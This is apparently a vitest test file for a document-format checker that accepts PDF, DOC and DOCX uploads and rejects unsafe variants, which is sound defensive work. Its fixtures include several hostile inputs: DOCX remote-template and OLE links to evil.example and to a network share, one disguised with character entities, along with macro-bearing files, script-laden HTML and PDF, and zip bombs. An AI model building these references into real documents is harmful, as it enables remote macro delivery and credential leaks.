import { describe, expect, test } from 'vitest'
import {
  contentTypes,
  DOCX_PARTS,
  declareSize,
  makeCompoundFile,
  makeDoc,
  makeDocx,
  relationships,
  zip,
} from '../../testing/word-files.ts'
import { documentFormatOf } from './document-format.ts'

const text = (written: string) => Buffer.from(written, 'latin1')
const extensionOf = async (bytes: Buffer) => (await documentFormatOf(bytes))?.extension ?? null

const PDF =
  '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\n%%EOF\n'
const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

const external = (kind: string, target: string) => ({
  ...DOCX_PARTS,
  'word/_rels/settings.xml.rels': relationships(
    `<Relationship Id="r1" Type="${TYPE}/${kind}" Target="${target}" TargetMode="External"/>`,
  ),
})

describe('is taken', () => {
  test.each<[string, () => Buffer | Promise<Buffer>, string]>([
    ['a PDF, also with scripts in it', () => text(PDF), 'pdf'],
    ['a PDF with something short behind its end', () => text(`${PDF}${'\n'.repeat(2000)}`), 'pdf'],
    ['a DOC', makeDoc, 'doc'],
    [
      'a DOC whose text is not the first entry',
      () =>
        makeCompoundFile([
          { name: 'ObjectPool', kind: 'storage' },
          { name: 'Data' },
          { name: '\u0005SummaryInformation' },
          { name: 'CompObj' },
          { name: 'WordDocument' },
        ]),
      'doc',
    ],
    [
      'a DOC of seven megabytes, whose table goes on outside of the header',
      () => makeCompoundFile([{ name: 'WordDocument' }], 14_500),
      'doc',
    ],
    ['a DOCX', makeDocx, 'docx'],
    [
      'a DOCX whose text has another name',
      () =>
        zip({
          '[Content_Types].xml': contentTypes(undefined, '/word/document2.xml'),
          'word/document2.xml': '<w/>',
        }),
      'docx',
    ],
    [
      'a DOCX with links and a template on a disk',
      () =>
        zip({
          ...external('attachedTemplate', 'file:///C:\\Vorlagen\\Brief.dotx'),
          'word/_rels/document.xml.rels': relationships(
            `<Relationship Id="r1" Type="${TYPE}/hyperlink" Target="https://wohlauf.example" TargetMode="External"/>`,
          ),
        }),
      'docx',
    ],
  ])('%s', async (_, make, extension) => {
    expect(await extensionOf(await make())).toBe(extension)
  })
})

describe('is not taken', () => {
  test.each<[string, () => Buffer | Promise<Buffer>]>([
    ['nothing', () => Buffer.alloc(0)],
    ['a text', () => text('Ich bin kein Dokument.')],
    ['a page of HTML', () => text('<!doctype html><script>alert(1)</script>')],
    ['a program', () => Buffer.concat([text('MZ'), Buffer.alloc(2000)])],
    ['a picture', () => Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ', 'base64')],
    ['a PDF that begins as a page', () => text(`<script>alert(1)</script>${PDF}`)],
    ['a PDF that was cut off', () => text(PDF.slice(0, -7))],
    ['a PDF with a program behind its end', () => text(`${PDF}${'x'.repeat(4000)}`)],
    ['an Excel table', () => makeCompoundFile([{ name: 'Workbook' }])],
    [
      'an Excel table that has a letter in it',
      () =>
        makeCompoundFile([
          { name: 'Workbook' },
          { name: 'MBD0001', kind: 'storage', right: 0xffffffff, child: 3 },
          { name: 'WordDocument' },
        ]),
    ],
    ['a folder called WordDocument', () => makeCompoundFile([{ name: 'WordDocument', kind: 'storage' }])],
    [
      'a DOC with macros',
      () => makeCompoundFile([{ name: 'Macros', kind: 'storage' }, { name: 'WordDocument' }]),
    ],
    ['the beginning of a DOC', () => makeDoc().subarray(0, 8)],
    ['a DOC that was cut off', () => makeDoc().subarray(0, 1030)],
    ['a compound file that leads in circles', () => makeCompoundFile([{ name: 'A', right: 1, child: 0 }])],
    ['a compound file of noise', () => Buffer.concat([makeDoc().subarray(0, 30), Buffer.alloc(4000, 9)])],
    ['any other zip', () => zip({ 'text.txt': 'Hallo' })],
    ['a zip without its content types', () => zip({ 'word/document.xml': '<w/>' })],
    ['a zip without the text', () => zip({ '[Content_Types].xml': contentTypes() })],
    [
      'a zip whose text is of another type',
      () => zip({ ...DOCX_PARTS, '[Content_Types].xml': contentTypes('application/xml') }),
    ],
    [
      'an Excel workbook',
      () =>
        zip({
          '[Content_Types].xml': contentTypes(
            'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
            '/xl/workbook.xml',
          ),
          'xl/workbook.xml': '<w/>',
        }),
    ],
    ['a DOCX with macros', () => zip({ ...DOCX_PARTS, 'word/vbaProject.bin': 'x' })],
    [
      'a DOCX whose template is elsewhere',
      () => zip(external('attachedTemplate', 'https://evil.example/a.dotm')),
    ],
    [
      'a DOCX whose template is on a share',
      () => zip(external('attachedTemplate', 'file://\\\\evil\\a.dotm')),
    ],
    [
      'a DOCX that hides what its template is',
      () => zip(external('attached&#84;emplate', 'ht&#x74;ps://evil.example/a.dotm')),
    ],
    ['a DOCX that embeds from elsewhere', () => zip(external('oleObject', 'http://evil.example/a.xls'))],
    ['a DOCX that unpacks to a hundred times more', () => zip({ ...DOCX_PARTS, a: Buffer.alloc(2 ** 21) })],
    [
      'a DOCX that unpacks to more than fifty megabytes',
      async () => declareSize(await makeDocx(), 'word/document.xml', 2 ** 19, 51 * 2 ** 20),
    ],
    [
      'a DOCX of thousands of parts',
      () =>
        zip({ ...DOCX_PARTS, ...Object.fromEntries(Array.from({ length: 2000 }, (_, n) => [`p${n}`, ''])) }),
    ],
  ])('%s', async (_, make) => {
    expect(await extensionOf(await make())).toBeNull()
  })

  test('a DOCX that was cut off', async () => {
    const bytes = await makeDocx()
    expect(await extensionOf(bytes.subarray(0, bytes.length - 30))).toBeNull()
  })
})
